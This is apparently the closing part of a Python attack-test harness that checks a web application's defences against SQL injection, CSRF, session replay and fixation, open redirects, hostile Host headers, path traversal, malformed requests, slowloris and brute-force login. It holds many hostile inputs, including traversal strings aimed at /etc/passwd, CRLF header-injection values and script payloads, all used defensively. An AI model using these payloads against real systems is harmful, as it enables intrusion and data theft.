                    check("xlsx: no formula in " + name, b"<f>" not in sheet and b"<f " not in sheet, name)
                    root = ET.fromstring(sheet)
                    for cell in root.iter("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}c"):
                        check("xlsx: strings are text cells", cell.get("t") in (None, "inlineStr", "s", "str", "n"),
                              cell.attrib)
            xml_all = b"".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
            check("xlsx: the hostile names are there", b"HYPERLINK" in xml_all, "")
    except (zipfile.BadZipFile, ET.ParseError) as e:
        check("xlsx parses", False, e)
    s, h, body = anon.get("/api/v1/results.jsonl")
    for line in body.decode("utf-8").splitlines():
        try:
            json.loads(line)
        except ValueError:
            check("jsonl: every line parses", False, line[:100])
    s, h, body = anon.get("/feeds/results.atom")
    check("atom type", h.get("content-type", "").startswith("application/atom+xml"), h.get("content-type"))
    try:
        root = ET.fromstring(body)
        ns = "{http://www.w3.org/2005/Atom}"
        entries = root.findall(ns + "entry")
        check("atom: no injected entry", all((e.findtext(ns + "title") or "") != "injected" for e in entries), "")
        check("atom: only Atom elements", all(el.tag.startswith(ns) for el in root.iter()),
              sorted({el.tag for el in root.iter() if not el.tag.startswith(ns)}))
        check("atom: the entries", len(entries) == len(res["items"]), (len(entries), len(res["items"])))
    except ET.ParseError as e:
        check("atom parses", False, e)
    s, h, body = anon.get("/api/v1/tasks/ATK-R-1")
    check("task JSON: the title as it is", json.loads(body).get("title", "").endswith("<script>alert('title')</script>"),
          body[:200])

    # ---- 3. SQL injection in every query and path parameter.
    for path, kind, params in ROUTES:
        if kind == "asset":
            continue
        base = instantiate(path, {"task": ["ATK-R-1"], "file": ["proof.json"], "uscc": GROUP_A[:1],
                                  "visit": a_visits[:1]})[0]
        c = users["insp_a"] if path.startswith(("/my/", "/api/v1/my/")) else users["sv_scjg"]
        for param in params:
            for pay in SQLI + ["RAW" + p for p in RAW_PAYLOADS]:
                value = pay[3:] if pay.startswith("RAW") else enc(pay)
                s, h, body = c.get(base + "?" + param + "=" + value)
                check("SQL in ?%s of %s: a clear answer" % (param, path), s in (200, 303, 400, 404, 414), (s, pay))
                if s == 200 and path == "/api/v1/subjects" and param == "q":
                    check("search for %r finds nothing" % pay, json.loads(body).get("total") == 0, body[:200])
        for name in ("task", "file", "uscc", "visit"):
            if "{%s}" % name not in path:
                continue
            for pay in SQLI + ["RAW" + p for p in RAW_PAYLOADS] + ["..", "."]:
                value = pay[3:] if pay.startswith("RAW") else enc(pay)
                filled = instantiate(path.replace("{%s}" % name, value), {"task": ["ATK-R-1"], "file": ["proof.json"],
                                                                          "uscc": GROUP_A[:1], "visit": a_visits[:1]})[0]
                s, h, body = c.get(filled)
                check("SQL in {%s} of %s: 400/404/414" % (name, path), s in (400, 404, 414), (s, pay))
    s, _, body = anon.get("/api/v1/results?limit=500")
    check("results unchanged after the injections", json.loads(body).get("total") == res["total"], body[:100])
    s, _, body = anon.get("/api/v1/subjects/" + GROUP_A[0])
    check("subjects unchanged after the injections", s == 200, s)

    # ---- 4. CSRF: every state-changing route, without a token, with a wrong one, from another site.
    evil = {"Origin": "http://evil.example"}
    wrong = "A" * 43
    c = Client("csrf-anonymous")
    token = c.csrf()
    creds = {"login": "atk.admin", "password": password}
    form = "login=atk.admin&password=" + enc(password)
    for label, headers, cookies in (("no token", {}, True), ("a wrong token", {"X-CSRF-Token": wrong}, True),
                                    ("another site", dict(evil, **{"X-CSRF-Token": token}), True),
                                    ("Origin null", {"Origin": "null", "X-CSRF-Token": token}, True),
                                    ("another port", {"Origin": "http://%s:1" % BASE.hostname, "X-CSRF-Token": token}, True),
                                    ("the token without its cookie", {"X-CSRF-Token": token}, False)):
        if label == "another site":  # a CORS preflight from that site grants nothing
            s, h, _ = c.request("OPTIONS", "/api/v1/session", headers={
                "Origin": "http://evil.example", "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "content-type, x-csrf-token"})
            check("a CORS preflight: 405, no grant", s == 405, s)
        s, h, _ = c.request("POST", "/api/v1/session", json_body=creds, headers=headers, cookies=cookies)
        check("POST /api/v1/session with %s: 403" % label, s == 403 and not any(
            x.startswith("xj_session=") for x in h["_set_cookie"]), s)
        fh = dict(headers, **{"Content-Type": "application/x-www-form-urlencoded"})
        s, h, _ = c.request("POST", "/login", body=form + ("&csrf_token=" + wrong if label == "a wrong token" else ""),
                            headers=fh, cookies=cookies)
        check("POST /login with %s: 403" % label, s == 403 and not any(
            x.startswith("xj_session=") for x in h["_set_cookie"]), s)
    victim = Client("csrf-victim")
    anon_token = victim.csrf()
    victim.sign_in("atk.admin", password)
    victim_cookie = victim.cookies.get("xj_session")
    vtoken = victim.csrf()

    def still_signed_in(after):
        s, _, body = victim.get("/api/v1/session")
        check("still signed in after " + after, s == 200 and json.loads(body).get("signed_in") is True, body[:100])
    for label, headers in (("no token", {}), ("a wrong token", {"X-CSRF-Token": wrong}),
                           ("the anonymous token", {"X-CSRF-Token": anon_token}),
                           ("another site", dict(evil, **{"X-CSRF-Token": vtoken}))):
        s, _, _ = victim.request("DELETE", "/api/v1/session", headers=headers)
        check("DELETE /api/v1/session with %s: 403" % label, s == 403, s)
        still_signed_in("DELETE /api/v1/session with " + label)
        fh = dict(headers, **{"Content-Type": "application/x-www-form-urlencoded"})
        fh.pop("X-CSRF-Token", None)
        body = "csrf_token=" + headers["X-CSRF-Token"] if "X-CSRF-Token" in headers else ""
        s, _, _ = victim.request("POST", "/logout", body=body, headers=fh)
        check("POST /logout with %s: 403" % label, s == 403, s)
        still_signed_in("POST /logout with " + label)
    s, _, _ = victim.get("/logout")
    still_signed_in("GET /logout")
    # Any other route, any state-changing method: 403 (no token), or 404/405 where none is.
    for p in paths:
        if p in ("/api/v1/session", "/login", "/logout"):
            continue
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            for label, headers in (("no token", {}), ("a wrong token", {"X-CSRF-Token": wrong}),
                                   ("another site", dict(evil, **{"X-CSRF-Token": vtoken}))):
                s, _, _ = victim.request(method, p, body=b"{}", headers=dict(headers, **{"Content-Type": "application/json"}))
                check("%s %s with %s: 403/404/405" % (method, p, label), s in (403, 404, 405), s)
    still_signed_in("the sweep")
    s, h, _ = victim.request("POST", "/logout", body="csrf_token=" + vtoken,
                             headers={"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://" + HOSTPORT})
    check("POST /logout with the token: 303", s == 303, s)
    s, _, body = victim.get("/api/v1/session")
    check("signed out", json.loads(body).get("signed_in") is False, body[:100])
    # The cookie of the ended session opens nothing (replay), and a cookie the client made up
    # is not adopted at sign-in (fixation).
    replay = Client("replay")
    replay.cookies["xj_session"] = victim_cookie
    s, _, body = replay.get("/api/v1/session")
    check("an ended session's cookie is refused", json.loads(body).get("signed_in") is False, body[:100])
    s, _, _ = replay.get("/api/v1/tasks/ATK-R-1/proof-full")
    check("an ended session's cookie: 401", s == 401, s)
    fixed = Client("fixation")
    fixed.cookies["xj_session"] = "F" * 43
    fixed.sign_in("atk.admin", password)
    check("a made-up session cookie is replaced at sign-in", fixed.cookies.get("xj_session") not in (None, "F" * 43),
          fixed.cookies.get("xj_session"))
    # After signing in, only this site's paths: never another host, never a header break.
    for nxt in ("//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "javascript:alert(1)",
                "/%0d%0aSet-Cookie:%20x=1", "/ok\r\nSet-Cookie: x=1", "http:/evil.example"):
        c = Client("redirect")
        t = c.csrf()
        s, h, _ = c.request("POST", "/login", body="login=atk.admin&password=%s&csrf_token=%s&next=%s" % (enc(password), t, enc(nxt)),
                            headers={"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://" + HOSTPORT})
        loc = h.get("location", "")
        check("next=%r stays on the site (or the form is refused)" % nxt, s in (400, 403) or s == 303 and loc.startswith("/") and not loc.startswith("//") and
              "\\" not in loc and "evil" not in loc.split("?")[0][:2] and "\r" not in loc and "\n" not in loc
              and not any(x.startswith("x=") for x in h["_set_cookie"]), (s, loc))
    # A hostile Host header is reflected nowhere.
    for target in ("/", "/login", "/subjects?q=abc", "/nothing-here"):
        # (a marker of its own: the stored payloads hold evil.example, and pages show them escaped)
        s, h, body = raw(("GET %s HTTP/1.1\r\nHost: host-marker.invalid\"><script>alert(1)</script>\r\nConnection: close\r\n\r\n"
                          % target).encode(), "hostile-host", label="Host " + target)
        check("a hostile Host is not reflected in " + target, b"host-marker" not in body, body[:200])

    # ---- 5. Path traversal on assets and routes: 400/404, never a file.
    for t in ["/assets/../../../../etc/passwd", "/assets/%2e%2e/%2e%2e/etc/passwd", "/assets/..%2f..%2f..%2fetc%2fpasswd",
              "/assets/%252e%252e/%252e%252e/etc/passwd", "/assets/..%5c..%5c..%5cetc%5cpasswd",
              "/assets/site.css%00.js", "/assets/site.css%00", "/assets/draw/../../../etc/passwd",
              "/assets/draw/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/assets/./site.css", "/assets//site.css",
              "/assets/%2fetc%2fpasswd", "/assets/..%c0%af..%c0%afetc/passwd", "/assets/%c0%ae%c0%ae/etc/passwd",
              "/api/v1/tasks/ATK-R-1/proof/..%2f..%2f..%2f..%2fetc%2fpasswd",
              "/api/v1/tasks/ATK-R-1/proof/%2e%2e%2fproof.json", "/api/v1/tasks/..%2fATK-S-1/proof",
              "/subjects/..%2f..%2fetc%2fpasswd", "/api/v1/subjects/%2e%2e", "/..", "/%2e%2e/%2e%2e/etc/passwd",
              "/proc/self/environ", "/etc/passwd", "/assets/../../../proc/self/environ",
              # paths that would make a page's own links point to another host
              "//evil.example", "//evil.example/x", "/%2F%2Fevil.example", "///evil.example", "/%5C%5Cevil.example",
              "/subjects/%2F%2Fevil.example", "/\\evil.example"]:
        s, h, body = raw(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (t, HOSTPORT)).encode(), "traversal")
        check("traversal %s: 400/404" % t, s in (400, 404) or (s == 200 and t in ("/assets/./site.css",)), s)
        check("traversal %s: no file" % t, b"root:" not in body and b"PATH=" not in body, body[:100])
    for t in [b"/assets\\..\\..\\etc\\passwd", b"/assets/\\..\\..\\etc\\passwd", b"/assets/site.css\x00.js",
              b"/subjects/\xff\xfe", b"/subjects/\xc0\xaf"]:
        s, h, body = raw(b"GET " + t + b" HTTP/1.1\r\nHost: " + HOSTPORT.encode() + b"\r\nConnection: close\r\n\r\n",
                         "traversal", label=t.decode("latin-1"))
        check("traversal %r: 400/404 or refused" % t, s in (400, 404), s)
        check("traversal %r: no file" % t, b"root:" not in body, body[:100])
    healthy("the traversals")

    # ---- 6. Oversized and malformed requests: a clear 4xx, and the server answers after.
    hp = HOSTPORT.encode()
    cases = [
        ("a body over 1 MiB", b"POST /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nContent-Type: application/json\r\n"
         b"Content-Length: 2000000\r\nConnection: close\r\n\r\n" + b"{" * 70000, (413,)),
        ("a path over 2 KiB", b"GET /subjects/" + b"A" * 3000 + b" HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (414,)),
        ("a query over 2 KiB", b"GET /api/v1/subjects?q=" + b"%E5%8D%8E" * 800 + b" HTTP/1.1\r\nHost: " + hp +
         b"\r\nConnection: close\r\n\r\n", (414,)),
        ("a target over the head limit", b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: " + hp + b"\r\n\r\n", (400, 413, 414, 431)),
        ("a huge header", b"GET /healthz HTTP/1.1\r\nHost: " + hp + b"\r\nX-Big: " + b"a" * 20000 + b"\r\n\r\n", (400, 413, 431)),
        ("many headers", b"GET /healthz HTTP/1.1\r\nHost: " + hp + b"\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(300)) +
         b"Connection: close\r\n\r\n", (200, 400, 431)),
        ("no method", b"\r\n\r\n", (400,)),
        ("garbage", b"GARBAGE\r\n\r\n", (400,)),
        ("a bad method", b"G@T / HTTP/1.1\r\nHost: " + hp + b"\r\n\r\n", (400, 405)),
        ("TRACE", b"TRACE / HTTP/1.1\r\nHost: " + hp + b"\r\n\r\n", (400, 405)),
        ("CONNECT", b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: " + hp + b"\r\n\r\n", (400, 405)),
        ("binary", b"\x00\x01\x02\xff\r\n\r\n", (400,)),
        ("HTTP/9.9", b"GET / HTTP/9.9\r\n\r\n", (400,)),
        ("no version", b"GET /healthz\r\n\r\n", (400,)),
        # CivetWeb closes these without an answer (None): no route sees them.
        ("an absolute-form target of another host", b"GET http://evil.example/healthz HTTP/1.1\r\nHost: " + hp +
         b"\r\nConnection: close\r\n\r\n", (None, 400, 404)),
        ("OPTIONS *", b"OPTIONS * HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (None, 400, 405)),
        ("OPTIONS", b"OPTIONS /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (405,)),
        ("both Content-Length and chunked", b"POST /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nContent-Length: 4\r\n"
         b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", (400, 403, 411)),
        ("extra words", b"GET /healthz HTTP/1.1 extra\r\nHost: " + hp + b"\r\n\r\n", (400,)),
        ("a header without a colon", b"GET /healthz HTTP/1.1\r\nHost: " + hp + b"\r\nBad Header\r\n\r\n", (400,)),
        ("a negative length", b"POST /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nContent-Length: -5\r\n\r\n", (400, 411)),
        ("a length of letters", b"POST /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nContent-Length: abc\r\n\r\n", (400, 411)),
        ("two lengths", b"POST /api/v1/session HTTP/1.1\r\nHost: " + hp + b"\r\nContent-Length: 2\r\nContent-Length: 40\r\n"
         b"Connection: close\r\n\r\n{}", (400, 403, 411)),
        ("bad percent-encoding in the path", b"GET /api/v1/tasks/%zz HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("a lone % in the path", b"GET /subjects/% HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("bad percent-encoding in the query", b"GET /api/v1/subjects?q=%zz HTTP/1.1\r\nHost: " + hp +
         b"\r\nConnection: close\r\n\r\n", (400,)),
        ("invalid UTF-8 in the query", b"GET /api/v1/subjects?q=%ff%fe%fd HTTP/1.1\r\nHost: " + hp +
         b"\r\nConnection: close\r\n\r\n", (400,)),
        ("invalid UTF-8 in the path", b"GET /api/v1/subjects/%ff%fe HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("an overlong UTF-8 slash", b"GET /subjects/%c0%af HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("a NUL in the path", b"GET /api/v1/tasks/ATK-R-1%00 HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("a NUL in the query", b"GET /api/v1/subjects?q=%00ab HTTP/1.1\r\nHost: " + hp + b"\r\nConnection: close\r\n\r\n", (400,)),
        ("a control character in the path", b"GET /subjects/%0d%0aSet-Cookie:x=1 HTTP/1.1\r\nHost: " + hp +
         b"\r\nConnection: close\r\n\r\n", (400,)),
    ]
    for label, data, want in cases:
        s, h, body = raw(data, "malformed", label=label)
        check("%s: %s" % (label, want), s in want, (s, body[:150]))
        healthy(label)
    # Sign-in bodies: malformed JSON, wrong types, wrong Content-Type: 400 (or 401), no session.
    c = Client("bodies")
    token = c.csrf()
    h0 = {"X-CSRF-Token": token, "Origin": "http://" + HOSTPORT}
    for label, ctype, body in [
            ("broken JSON", "application/json", "{"), ("a JSON array", "application/json", "[]"),
            ("JSON null", "application/json", "null"), ("a number login", "application/json", '{"login": 1, "password": "x"}'),
            ("an array password", "application/json", '{"login": "atk.admin", "password": ["x"]}'),
            ("deep nesting", "application/json", "[" * 100000 + "]" * 100000),
            ("a huge string", "application/json", json.dumps({"login": "a" * 500000, "password": "b"})),
            ("invalid UTF-8", "application/json", b'{"login": "\xff\xfe", "password": "\xc0\xaf"}'),
            ("a NUL", "application/json", '{"login": "atk.admin\\u0000", "password": "x"}'),
            ("text/plain", "text/plain", "login=atk.admin&password=x"),
            ("XML", "application/xml", "<login>atk.admin</login>"),
            ("multipart", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=login\r\n\r\natk.admin\r\n--x--"),
            ("a form with bad escapes", "application/x-www-form-urlencoded", "login=%zz&password=%"),
            ("a form with invalid UTF-8", "application/x-www-form-urlencoded", "login=%ff&password=%fe" )]:
        s, h, data = c.request("POST", "/api/v1/session", body=body, headers=dict(h0, **{"Content-Type": ctype}))
        check("sign-in body %s: 400/401" % label, s in (400, 401), (s, data[:150]))
        check("sign-in body %s: no session" % label, "xj_session" not in c.cookies, c.cookies)
        s, h, data = c.request("POST", "/login", body=body if isinstance(body, bytes) else body + "&csrf_token=" + token,
                               headers=dict(h0, **{"Content-Type": ctype}))
        check("POST /login body %s: 4xx" % label, 400 <= s < 500, (s, data[:150]))
    healthy("the malformed bodies")

    # ---- 7. A slow client (slowloris) is cut off by the request timeout (2 s here), while
    # the others are served.
    slow = socket.create_connection((BASE.hostname, BASE.port), timeout=5)
    slow.sendall(b"GET /healthz HTTP/1.1\r\nHost: " + hp + b"\r\n")
    started, cut, served = time.monotonic(), None, []

    def others():
        for _ in range(3):
            t0 = time.monotonic()
            s_, _, _ = Client("during-slowloris").get("/healthz")
            served.append((s_, time.monotonic() - t0))
    t = threading.Thread(target=others)
    t.start()
    while time.monotonic() - started < 60:  # generous: the timeout is 2 s
        try:
            slow.sendall(b"X")
            slow.settimeout(1.0)
            b = slow.recv(4096)
            if not b or b.startswith(b"HTTP/1.1 4"):
                cut = time.monotonic() - started
                break
        except socket.timeout:
            continue
        except OSError:
            cut = time.monotonic() - started
            break
    slow.close()
    t.join(120)
    check("slowloris: cut off", cut is not None, "still open after 60 s")
    check("slowloris: the others are served", len(served) == 3 and all(s_ == 200 for s_, _ in served), served)

    # ---- 8. Pre-reveal secrecy, risk classes, ID numbers: every byte served.
    foreign_names = {cl.who for cl in foreign} | {"health", "during-slowloris", "raw", "traversal", "malformed", "bodies",
                                                   "csrf-anonymous", "csrf-victim"}
    public_names = {"anonymous", "health", "during-slowloris", "raw", "traversal", "malformed", "bodies",
                    "csrf-anonymous"}
    secret_b = [u.encode() for u in secret_usccs] + [i.encode() for i in secret_team]
    for who, method, target, s, h, body in LOG:
        for n in never:
            check("no ID number or password hash in %s %s as %s" % (method, target[:80], who), n not in body, n)
        if who in foreign_names:
            if DIRECTORY.match(target):
                check("no secret task on a subject: %s as %s" % (target[:80], who), b"ATK-S-1" not in body, "")
            else:
                for x in secret_b + [SECRET_NAME.encode()]:
                    check("secret %s in %s %s as %s" % (x.decode(), method, target[:80], who), x not in body,
                          body[max(0, body.find(x) - 100):body.find(x) + 60])
        if who in public_names or (who in foreign_names and "proof-full" not in target):
            check("no risk_class key in %s as %s" % (target[:80], who), not re.search(rb'"risk_class"\s*:', body), "")
            for u, cls in classes.items():
                at = body.find(u.encode())
                while at >= 0:
                    after = body[at + 18:at + 18 + 40]
                    check("no class in %s as %s" % (target[:80], who),
                          not re.match(rb'(\t|",\s*"[a-z_]+":\s*")' + cls.encode() + rb'(\t|\n|\r|")', after),
                          "%s followed by %r" % (u, after))
                    at = body.find(u.encode(), at + 1)

    # A shared cache may keep only what is the same for everyone: an answer marked public to a
    # signed-in user is the anonymous answer, byte for byte (a page, with its CSRF token, never is).
    anon_body = {t: b for w, m, t, s_, h, b in LOG if w == "anonymous" and m == "GET" and s_ == 200}
    for who, method, target, s_, h, body in LOG:
        cc = h.get("cache-control", "")
        if s_ == 200 and method == "GET" and "public" in cc:
            check("public caching of a personal answer: %s as %s" % (target[:80], who),
                  "xj_session=" not in " ".join(h.get("_set_cookie", [])) and "csrf-token" not in body.decode("utf-8", "replace")
                  and (who not in users or anon_body.get(target) == body), cc)
        check("X-Frame-Options on %s" % target[:80], s_ is None or h.get("x-frame-options") == "DENY", h.get("x-frame-options"))

    # ---- 9. Cookies: HttpOnly, SameSite=Strict, Path=/.
    check("cookies seen", len(SET_COOKIES) > 5, len(SET_COOKIES))
    for c_ in SET_COOKIES:
        check("cookie flags " + c_.split("=")[0], "HttpOnly" in c_ and "SameSite=Strict" in c_ and "Path=/" in c_, c_)

    # ---- 10. A burst of wrong passwords: 429 with Retry-After, per account then per address;
    # the right password refused while locked. (Last: the address lock refuses every sign-in.)
    c = Client("throttle")
    token = c.csrf()
    h0 = {"X-CSRF-Token": token, "Origin": "http://" + HOSTPORT}
    # An unknown login and a wrong password get the same answer (no account enumeration).
    answers = []
    for login in ("atk.audit", "no-such-user.sv"):
        s, h, body = c.request("POST", "/api/v1/session", json_body={"login": login, "password": "wrong password 0"},
                               headers=h0)
        answers.append((s, body))
    check("an unknown login answers like a wrong password", answers[0] == answers[1] and answers[0][0] == 401, answers)
    got = []
    for _ in range(8):
        s, h, _ = c.request("POST", "/api/v1/session", json_body={"login": "victim.sv", "password": "wrong password 1"},
                            headers=h0)
        got.append(s)
        if s == 429:
            retry = h.get("retry-after", "")
            check("account lock: Retry-After", retry.isdigit() and 0 < int(retry) <= 900, retry)
            break
    check("account lock: 401s then 429", got[-1] == 429 and set(got[:-1]) == {401} and 4 <= len(got) <= 6, got)
    s, h, _ = c.request("POST", "/api/v1/session", json_body={"login": "victim.sv", "password": password}, headers=h0)
    check("account lock: the right password refused", s == 429 and "xj_session" not in c.cookies, s)
    s, h, body = c.request("POST", "/login", body="login=victim.sv&password=%s&csrf_token=%s" % (enc(password), token),
                           headers={"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://" + HOSTPORT})
    check("account lock on the form: 429 with Retry-After", s == 429 and h.get("retry-after", "").isdigit(), s)
    got = []
    for i in range(30):
        s, h, _ = c.request("POST", "/api/v1/session", json_body={"login": "nobody%d.sv" % i, "password": "wrong password 2"},
                            headers=h0)
        got.append(s)
        if s == 429:
            retry = h.get("retry-after", "")
            check("address lock: Retry-After", retry.isdigit() and 0 < int(retry) <= 900, retry)
            break
    check("address lock: 429 within 20 failures", got[-1] == 429 and len(got) <= 20, got)
    s, h, _ = c.request("POST", "/api/v1/session", json_body={"login": "atk.admin", "password": password}, headers=h0)
    check("address lock: another user's right password refused", s == 429 and "xj_session" not in c.cookies, s)
    s, h, _ = c.request("POST", "/api/v1/session", json_body={"login": "atk.admin", "password": password},
                        headers=dict(h0, **{"X-Forwarded-For": "203.0.113.9", "X-Real-IP": "203.0.113.9",
                                            "Forwarded": "for=203.0.113.9"}))
    check("address lock: a forwarded-for header does not lift it", s == 429 and "xj_session" not in c.cookies, s)
    healthy("the throttle")

    # ---- The sessions opened at the start still work (nothing above ended them).
    s, _, body = users["sv_scjg"].get("/api/v1/session")
    check("sessions survive the attacks", json.loads(body).get("signed_in") is True, body[:100])
    for f in failures[:60]:
        print("FAIL:", f, file=sys.stderr)
    if len(failures) > 60:
        print("FAIL: … and %d more" % (len(failures) - 60), file=sys.stderr)
    print("%d requests, %d failures" % (len(LOG), len(failures)))
    return 1 if failures else 0


if __name__ == "__main__" and sys.argv[1:2] == ["--attack"]:
    sys.exit(main())
